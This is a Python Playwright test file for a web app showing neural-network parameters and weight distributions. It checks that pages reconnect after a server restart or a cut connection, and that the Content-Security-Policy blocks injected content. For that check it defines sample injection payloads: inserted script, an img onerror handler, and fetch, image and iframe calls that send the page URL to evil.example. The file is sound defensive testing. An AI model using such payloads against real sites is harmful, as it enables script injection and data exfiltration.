"""Connections that break under an open page, servers that begin anew, and scripts that nobody let in."""

import contextlib
import os
import re
import select
import socket
import sys
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from pages.text import Text
from pages.text.numbers import count
from tests.support.stream import Server, free_port, serving
from tests.support.tabs import link, listened, settled, until

T = Text("en")
#: Seconds in which a page is back after its server is: the front end waits longer after each try.
BACK = 30_000
#: Notes what the policy of the page has kept from happening.
WATCH = """
    window.blocked = []
    document.addEventListener("securitypolicyviolation",
        e => blocked.push([e.effectiveDirective, e.blockedURI]))
"""


@pytest.fixture
def own(browser: Browser) -> Iterator[Page]:
    """A page of its own, whose console may say what a broken connection makes it say."""
    context = browser.new_context(viewport={"width": 1280, "height": 720}, locale="en-US")
    context.add_init_script(WATCH)
    page = listened(context.new_page())
    page.set_default_timeout(15_000)
    yield page
    context.close()


class Cable(threading.Thread):
    """What lies between a browser and a server, and can be cut."""

    def __init__(self, far: int) -> None:
        super().__init__(daemon=True)
        self._far, self._pairs = far, dict[socket.socket, socket.socket]()
        self._door = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._door.getsockname()[1])

    def run(self) -> None:
        while self._door.fileno() >= 0:
            ready: list[socket.socket] = []
            with contextlib.suppress(OSError, ValueError):  # one of them has been cut meanwhile
                ready, _, _ = select.select([self._door, *self._pairs], [], [], 0.05)
            for near in ready:
                with contextlib.suppress(OSError):
                    self._carry(near)

    def _carry(self, near: socket.socket) -> None:
        if near is self._door:
            one, other = near.accept()[0], socket.create_connection(("127.0.0.1", self._far))
            self._pairs |= {one: other, other: one}
        elif (far := self._pairs.get(near)) is not None:
            if data := near.recv(1 << 16):
                far.sendall(data)
            else:
                self._drop(near, far)

    def cut(self) -> None:
        """Break all that goes through it."""
        self._drop(*self._pairs)

    def _drop(self, *ends: socket.socket) -> None:
        for end in ends:
            self._pairs.pop(end, None)
            with contextlib.suppress(OSError):
                end.shutdown(socket.SHUT_RDWR)
            end.close()


def test_a_page_comes_back_when_its_server_does(own: Page) -> None:
    port = free_port()
    command = (sys.executable, "-m", "pages.server")
    environment = {**os.environ, "HOST": "127.0.0.1", "PORT": str(port)}
    chosen = {"v": "1", "net": "3-4.relu-2", "seed": "7", "part": "parameters"}
    parameters = (3 + 1) * 4 + (4 + 1) * 2
    with serving(command, port, environment):
        own.goto(f"http://localhost:{port}/model?v=1&net=3-4.relu-2&seed=7&part=parameters")
        settled(own)
        headline = own.locator("h1.lab-headline").inner_text()
        table = own.locator(".lab-held").inner_text()
        assert str(parameters) in headline
    with own.expect_websocket(timeout=BACK) as mended, serving(command, port, environment):
        assert "_stcore/stream" in mended.value.url
        # by itself the page stays as it was, and its first control is taken up by the new server
        assert link(own) == chosen
        assert own.locator("h1.lab-headline").inner_text() == headline
        assert own.locator(".lab-held").inner_text() == table
        seed = own.get_by_label("Seed", exact=True)
        assert seed.input_value() == "7"
        seed.fill("8")
        seed.press("Enter")
        own.wait_for_url("**seed=8**")
        settled(own)
        assert link(own) == chosen | {"seed": "8"}
        assert own.locator(".lab-held").inner_text() != table
        own.close()  # before its server, which it would miss


def test_a_connection_that_is_cut_is_mended_and_the_next_control_works(own: Page, served: Server) -> None:
    cable = Cable(served.port)
    cable.start()
    own.goto(f"http://localhost:{cable.port}/distribution?v=1&scheme=ones&seed=3")
    settled(own)
    field = own.get_by_label("fan_in", exact=True)
    field.fill("100")
    field.press("Enter")
    own.wait_for_url("**fan_in=100**")
    settled(own)
    with own.expect_websocket(timeout=BACK):
        cable.cut()
    field = own.get_by_label("fan_out", exact=True)
    field.fill("30")
    field.press("Enter")
    own.wait_for_url("**fan_out=30**")
    settled(own)
    assert link(own) == {"v": "1", "scheme": "ones", "seed": "3", "fan_in": "100", "fan_out": "30"}
    expect(own.locator(".lab-context")).to_contain_text(T("context.weights", n=count(3000)))
    # what is on no link is in the session, which goes on: the choice goes along by the menu
    own.get_by_role("link", name=T("nav.compare")).first.click()
    own.wait_for_url("**/compare?**fan_in=100**")
    own.close()


def _directives(policy: str) -> dict[str, list[str]]:
    return {name: sources for name, *sources in (part.split() for part in policy.split(";"))}


#: Streamlit's front end asks for WebAssembly to count in 64 bits, and does without.
WASM = ["script-src", "wasm-eval"]
#: What a page would do that has been taken in; each sets ``window.ran`` if it is let.
INJECTED = {
    "script-src-elem": """() => {
        const script = document.createElement("script")
        script.textContent = "window.ran = 'a script'"
        document.body.append(script)
    }""",
    "script-src-attr": """() => {
        const picture = document.createElement("div")
        picture.innerHTML = "<img src='data:,' onerror='window.ran = 1'>"
        document.body.append(picture)
    }""",
    "connect-src": "() => fetch('http://evil.example/?' + document.URL).then(() => window.ran = 1, () => 0)",
    "img-src": "() => { new Image().src = 'http://evil.example/' + document.URL }",
    "frame-src": """() => {
        const frame = document.createElement("iframe")
        frame.src = "http://evil.example/"
        document.body.append(frame)
    }""",
}


def test_the_policy_lets_our_pages_do_all_they_do_and_nothing_else(own: Page, served: Server) -> None:
    abroad: list[str] = []

    def leaves(route: Route) -> None:
        abroad.append(route.request.url)
        route.abort()

    own.route(re.compile("//evil"), leaves)
    answer: Any = own.goto(f"{served.url}/distribution?v=1&scheme=kaiming_uniform")
    allowed = _directives(answer.header_value("content-security-policy"))
    loose = {"'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "*", "http:", "https:", "data:"}
    for name in ("default-src", "script-src"):
        assert not loose & {*allowed[name]}
    for name in ("default-src", "base-uri", "form-action"):
        assert allowed[name] == ["'none'"]
    settled(own)
    own.wait_for_selector(".js-plotly-plot .main-svg")
    own.keyboard.press("e")
    own.wait_for_selector("[role=dialog] .main-svg")
    settled(own)
    with own.expect_download():
        own.get_by_role("dialog").get_by_role("button", name="PNG", exact=True).first.click()
    own.keyboard.press("Escape")
    own.wait_for_selector("[role=dialog]", state="detached")
    own.keyboard.press("p")
    own.wait_for_url("**view=projector**")
    settled(own)
    assert [found for found in own.evaluate("blocked.splice(0)") if found != WASM] == []
    for directive, script in INJECTED.items():
        own.evaluate(script)
        until(own, "blocked.length")
        assert directive in {name for name, _ in own.evaluate("blocked.splice(0)")}
    assert own.evaluate("window.ran") is None
    assert abroad == []
